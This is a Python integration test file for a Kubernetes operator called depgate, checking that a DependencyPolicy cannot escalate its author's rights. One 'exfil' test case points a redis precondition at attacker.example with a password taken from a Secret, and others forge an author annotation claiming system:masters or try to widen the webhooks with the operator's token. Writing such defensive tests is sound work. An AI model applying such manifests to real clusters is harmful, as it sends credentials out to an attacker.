"""A policy can make depgate do only what its author could do directly (issue 14), on the real plane:
the operator runs as its ServiceAccount and serves its admission webhook; users act with their own
ServiceAccount tokens, as a namespace user, an editor or a GitOps controller would."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest
import yaml

from tests.conftest import Plane, wait_for
from tests.integration.kubehelp import apply, condition, deployment, get, init_names, policy, wait_deployment

AUTHOR = "depgate.io/author"
SIGNATURE = "depgate.io/author-signature"


def user(plane: Plane, ns: str, name: str, tmp: Path, *, role: str | None = None,
         cluster_role: str | None = None, cluster_wide: bool = False) -> Plane:
    """A ServiceAccount `name` in `ns` with the given rights, and a Plane that acts as it."""
    plane.run_kubectl("create", "serviceaccount", name, "-n", ns)
    if role:
        apply(plane, ns, role)
        plane.run_kubectl("create", "rolebinding", f"{name}-binding", "-n", ns, f"--role={name}",
                          f"--serviceaccount={ns}:{name}")
    if cluster_role and cluster_wide:
        plane.run_kubectl("create", "clusterrolebinding", f"{ns}-{name}", f"--clusterrole={cluster_role}",
                          f"--serviceaccount={ns}:{name}")
    elif cluster_role:
        plane.run_kubectl("create", "rolebinding", f"{name}-binding", "-n", ns, f"--clusterrole={cluster_role}",
                          f"--serviceaccount={ns}:{name}")
    token = plane.run_kubectl("create", "token", name, "-n", ns, "--duration=1h").stdout.strip()
    admin = yaml.safe_load(Path(plane.kubeconfig).read_text())
    ctx = next(c["context"] for c in admin["contexts"] if c["name"] == admin["current-context"])
    cluster = next(c["cluster"] for c in admin["clusters"] if c["name"] == ctx["cluster"])
    cfg = {"apiVersion": "v1", "kind": "Config", "clusters": [{"name": "plane", "cluster": cluster}],
           "users": [{"name": name, "user": {"token": token}}],
           "contexts": [{"name": name, "context": {"cluster": "plane", "user": name, "namespace": ns}}],
           "current-context": name}
    path = tmp / f"{ns}-{name}.kubeconfig"
    path.write_text(json.dumps(cfg))
    return Plane(str(path), plane.kubectl, plane.server, pods=plane.pods)


POLICY_ONLY = """
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: policy-author}
rules:
- apiGroups: [depgate.io]
  resources: [dependencypolicies]
  verbs: [get, list, watch, create, update, patch, delete]
"""


def try_apply(who: Plane, ns: str, manifest: str) -> tuple[int, str]:
    out = who.run_kubectl("apply", "-n", ns, "-f", "-", input=textwrap.dedent(manifest), check=False)
    return out.returncode, out.stderr + out.stdout


def gated(plane: Plane, ns: str, name: str, pre: str) -> dict:
    return wait_deployment(plane, ns, name, lambda d: f"depgate-{pre}" in init_names(d), timeout=60,
                           what=f"gated by depgate-{pre}")


@pytest.fixture
def payments(plane: Plane, namespace: str) -> str:
    apply(plane, namespace, deployment("payments"))
    plane.run_kubectl("create", "secret", "generic", "payments-db", "-n", namespace, "--from-literal=password=s3cret")
    return namespace


def test_a_policy_only_user_is_refused_each_escalation_naming_its_field(plane, operator, payments, tmp_path):
    ns = payments
    author = user(plane, ns, "policy-author", tmp_path, role=POLICY_ONLY)
    assert author.run_kubectl("auth", "can-i", "patch", "deployments", "-n", ns, check=False).stdout.strip() == "no"

    cases = {
        # an init container of its choosing in someone else's Deployment
        "inject": (policy("inject", "payments", "- name: wait\n  tcp: {host: db, port: 5432}"),
                   f"spec.workloadRef: system:serviceaccount:{ns}:policy-author may not patch deployments.apps "
                   "'payments'"),
        # a Deployment of its own making, through the operator
        "create": ("""
            apiVersion: depgate.io/v1alpha1
            kind: DependencyPolicy
            metadata: {name: create}
            spec:
              template:
                spec:
                  replicas: 1
                  selector: {matchLabels: {app: evil}}
                  template:
                    metadata: {labels: {app: evil}}
                    spec: {containers: [{name: evil, image: busybox}]}
              preconditions:
              - {name: wait, tcp: {host: db, port: 5432}}
            """, f"spec.template: system:serviceaccount:{ns}:policy-author may not create deployments.apps"),
        # every Deployment of the namespace, by a selector
        "claim": ("""
            apiVersion: depgate.io/v1alpha1
            kind: DependencyPolicy
            metadata: {name: claim}
            spec:
              selector: {matchLabels: {app: payments}}
              preconditions:
              - {name: wait, tcp: {host: db, port: 5432}}
            """, f"spec.selector: system:serviceaccount:{ns}:policy-author may not patch deployments.apps in"),
    }
    for name, (manifest, message) in cases.items():
        rc, out = try_apply(author, ns, manifest)
        assert rc != 0, f"{name}: admitted:\n{out}"
        assert "denied the request" in out and message in out, f"{name}: {out}"
        assert get(plane, ns, "dependencypolicy", name) is None
    assert init_names(get(plane, ns, "deployment", "payments")) == []


def test_secrets_and_judged_objects_need_the_authors_read_rights(plane, operator, payments, tmp_path):
    """With patch on the Deployment but no read of Secrets: the Secret it names is refused, field by field."""
    ns = payments
    role = POLICY_ONLY.replace("verbs: [get, list, watch, create, update, patch, delete]",
                               "verbs: [get, list, watch, create, update, patch, delete]\n"
                               "- apiGroups: [apps]\n  resources: [deployments]\n  verbs: [get, patch]")
    author = user(plane, ns, "patcher", tmp_path, role=role.replace("policy-author", "patcher"))
    rc, out = try_apply(author, ns, policy("exfil", "payments", """
        - name: cache
          redis: {host: attacker.example, passwordSecretRef: {name: payments-db, key: password}}
        - name: creds
          secret: {name: payments-db, keys: [password]}
        - name: migrated
          job: {name: migrate}
        """))
    assert rc != 0, out
    assert f"spec.preconditions[0].redis.passwordSecretRef: system:serviceaccount:{ns}:patcher may not get secrets " \
           "'payments-db'" in out, out
    assert "spec.preconditions[2].job: " in out and "may not get jobs.batch 'migrate'" in out, out
    # the right it does hold is not named
    assert "spec.workloadRef" not in out, out
    rc, out = try_apply(author, ns, policy("fine", "payments", "- name: wait\n  tcp: {host: db, port: 5432}"))
    assert rc == 0, out
    gated(plane, ns, "payments", "wait")


def test_an_editor_and_a_gitops_controller_keep_working(plane, operator, namespace, tmp_path):
    ns = namespace
    editor = user(plane, ns, "editor", tmp_path, cluster_role="edit")
    apply(editor, ns, deployment("web"))
    rc, out = try_apply(editor, ns, policy("web", "web", """
        - name: settings
          configMap: {name: app-config, keys: [redis.conf]}
        - name: db
          secret: {name: db, keys: [password]}
        """))
    assert rc == 0, out
    gated(plane, ns, "web", "settings")
    recorded = get(plane, ns, "dependencypolicy", "web")["metadata"]["annotations"]
    assert json.loads(recorded[AUTHOR])["username"] == f"system:serviceaccount:{ns}:editor"

    # A GitOps controller's ServiceAccount (Flux's kustomize-controller is bound to cluster-admin by default)
    flux = user(plane, ns, "kustomize-controller", tmp_path, cluster_role="cluster-admin", cluster_wide=True)
    try:
        apply(flux, ns, deployment("api"))
        rc, out = try_apply(flux, ns, policy("api", "api", "- name: wait\n  tcp: {host: db, port: 5432}"))
        assert rc == 0, out
        gated(plane, ns, "api", "wait")
    finally:
        plane.run_kubectl("delete", "clusterrolebinding", f"{ns}-kustomize-controller", "--ignore-not-found")


def test_the_recorded_author_cannot_be_forged_or_kept_by_someone_else(plane, operator, payments, tmp_path):
    ns = payments
    apply(plane, ns, policy("kept", "payments", "- name: wait\n  tcp: {host: db, port: 5432}"))
    gated(plane, ns, "payments", "wait")
    before = get(plane, ns, "dependencypolicy", "kept")["metadata"]["annotations"]
    forged = json.dumps({"username": "mallory", "groups": ["system:masters"]})
    plane.run_kubectl("annotate", "-n", ns, "dependencypolicy", "kept", "--overwrite", f"{AUTHOR}={forged}",
                      f"{SIGNATURE}=v1:00")
    after = get(plane, ns, "dependencypolicy", "kept")["metadata"]["annotations"]
    assert (after[AUTHOR], after[SIGNATURE]) == (before[AUTHOR], before[SIGNATURE])

    # a policy-only user changing the spec becomes its author, and is refused
    author = user(plane, ns, "policy-author", tmp_path, role=POLICY_ONLY)
    change = {"spec": {"preconditions": [{"name": "evil", "tcp": {"host": "x", "port": 1}}]}}
    out = author.run_kubectl("patch", "-n", ns, "dependencypolicy", "kept", "--type=merge", "-p", json.dumps(change),
                             check=False)
    assert out.returncode != 0 and "may not patch deployments.apps 'payments'" in out.stderr, out.stderr
    # touching only its labels changes nothing about who wrote it
    out = author.run_kubectl("label", "-n", ns, "dependencypolicy", "kept", "team=b")
    assert get(plane, ns, "dependencypolicy", "kept")["metadata"]["annotations"][AUTHOR] == before[AUTHOR]


def test_a_policy_admitted_without_the_webhook_is_not_trusted_until_someone_with_the_rights_touches_it(
        plane, operator, payments, tmp_path):
    ns = payments
    saved = {}
    for kind in ("validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
        obj = json.loads(plane.run_kubectl("get", kind, "depgate.io", "-o", "json").stdout)
        for k in ("resourceVersion", "uid", "creationTimestamp", "generation", "managedFields"):
            obj["metadata"].pop(k, None)
        saved[kind] = obj
        plane.run_kubectl("delete", kind, "depgate.io")
    try:
        apply(plane, ns, policy("sneaked", "payments", "- name: wait\n  tcp: {host: db, port: 5432}"))
    finally:
        for obj in saved.values():
            plane.run_kubectl("create", "-f", "-", input=json.dumps(obj))
    from tests.conftest import wait_webhook_serves

    wait_webhook_serves(plane)

    def stalled():
        p = get(plane, ns, "dependencypolicy", "sneaked")
        c = condition(p, "Stalled")
        return p if c.get("status") == "True" and c.get("reason") == "Unauthorized" else None

    p = wait_for(stalled, 60, interval=0.2, what="the unsigned policy said Unauthorized")
    assert "no author recorded" in condition(p, "Stalled")["message"]
    assert init_names(get(plane, ns, "deployment", "payments")) == []

    # an editor touching it (no spec change) becomes its author: checked, and it takes effect
    editor = user(plane, ns, "editor", tmp_path, cluster_role="edit")
    editor.run_kubectl("annotate", "-n", ns, "dependencypolicy", "sneaked", "reviewed-by=editor")
    gated(plane, ns, "payments", "wait")
    annotations = get(plane, ns, "dependencypolicy", "sneaked")["metadata"]["annotations"]
    assert json.loads(annotations[AUTHOR])["username"] == f"system:serviceaccount:{ns}:editor"


def test_a_policy_carries_depgates_finalizer_from_its_create_unless_another_shard_serves_it(plane, operator, payments):
    """The mutating webhook adds depgate's finalizer with the policy's own write (no patch of the worker's
    per policy); a policy of a shard no operator here serves gets none, so its deletion never waits."""
    ns = payments
    created = json.loads(plane.run_kubectl("create", "-n", ns, "-o", "json", "-f", "-", input=textwrap.dedent(
        policy("mine", "payments", "- name: wait\n  tcp: {host: db, port: 5432}"))).stdout)
    assert created["metadata"].get("finalizers") == ["depgate.io/cleanup"], created["metadata"]
    other = textwrap.dedent(policy("theirs", "payments", "- name: wait\n  tcp: {host: db, port: 5432}")).replace(
        "metadata: {name: theirs}", "metadata: {name: theirs, labels: {sharding.depgate.io/key: elsewhere}}")
    created = json.loads(plane.run_kubectl("create", "-n", ns, "-o", "json", "-f", "-", input=other).stdout)
    assert created["metadata"]["labels"] == {"sharding.depgate.io/key": "elsewhere"}
    assert "finalizers" not in created["metadata"], created["metadata"]
    assert created["metadata"]["annotations"].get(AUTHOR), "the other shard's policy is still signed"
    plane.run_kubectl("delete", "-n", ns, "dependencypolicy", "theirs", "--timeout=20s")
    assert get(plane, ns, "dependencypolicy", "theirs") is None
    gated(plane, ns, "payments", "wait")
    # the worker found the finalizer there and patched nothing in: the policy's only writes were depgate's status
    managers = {m["manager"]: m.get("subresource", "") for m in
                get(plane, ns, "dependencypolicy", "mine")["metadata"].get("managedFields", [])}
    assert all(sub == "status" for who, sub in managers.items() if who != "kubectl-create"), managers


@pytest.mark.parametrize("value_bytes", [6000, 20000], ids=["660KB-etcd-would-store-it", "2.2MB-etcd-would-refuse"])
def test_a_policy_too_big_is_refused_naming_its_largest_field(plane, operator, payments, value_bytes):
    """Over depgate's 512 KiB (and up to the API server's 3 MB request limit), refused naming a field,
    where etcd's own refusal (over about 1.5 MB) names none."""
    ns = payments
    env = [{"name": f"E{i}", "value": "x" * value_bytes} for i in range(110)]
    big = {"apiVersion": "depgate.io/v1alpha1", "kind": "DependencyPolicy", "metadata": {"name": "big"},
           "spec": {"template": {"spec": {
               "selector": {"matchLabels": {"app": "big"}},
               "template": {"metadata": {"labels": {"app": "big"}},
                            "spec": {"containers": [{"name": "app", "image": "busybox", "env": env}]}}}},
                    "preconditions": [{"name": "wait", "tcp": {"host": "db", "port": 5432}}]}}
    out = plane.run_kubectl("create", "-n", ns, "-f", "-", input=json.dumps(big), check=False)
    assert out.returncode != 0
    assert "spec.template.spec.template.spec.containers[0].env: the policy is" in out.stderr, out.stderr
    assert "over depgate's limit" in out.stderr, out.stderr


def test_the_operators_token_may_repoint_its_webhooks_but_not_widen_them(plane, operator, operator_kubeconfig):
    """A stolen operator token could otherwise make depgate's webhook intercept every pod."""
    as_operator = Plane(operator_kubeconfig, plane.kubectl, plane.server, pods=plane.pods)
    for kind in ("validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
        live = json.loads(plane.run_kubectl("get", kind, "depgate.io", "-o", "json").stdout)
        widen = [{"op": "add", "path": "/webhooks/0/rules/-",
                  "value": {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}}]
        out = as_operator.run_kubectl("patch", kind, "depgate.io", "--type=json", "-p", json.dumps(widen), check=False)
        assert out.returncode != 0, out.stdout
        assert "may change only the clientConfig" in out.stderr, out.stderr
        loosen = [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}]
        out = as_operator.run_kubectl("patch", kind, "depgate.io", "--type=json", "-p", json.dumps(loosen), check=False)
        assert out.returncode != 0 and "may change only the clientConfig" in out.stderr, out.stderr
        # what the operator does at start: its clientConfig, and nothing else, may change
        same = [{"op": "replace", "path": "/webhooks/0/clientConfig", "value": live["webhooks"][0]["clientConfig"]},
                {"op": "add", "path": "/metadata/labels/touched", "value": "yes"}]
        as_operator.run_kubectl("patch", kind, "depgate.io", "--type=json", "-p", json.dumps(same))
        after = json.loads(plane.run_kubectl("get", kind, "depgate.io", "-o", "json").stdout)
        assert after["webhooks"] == live["webhooks"]
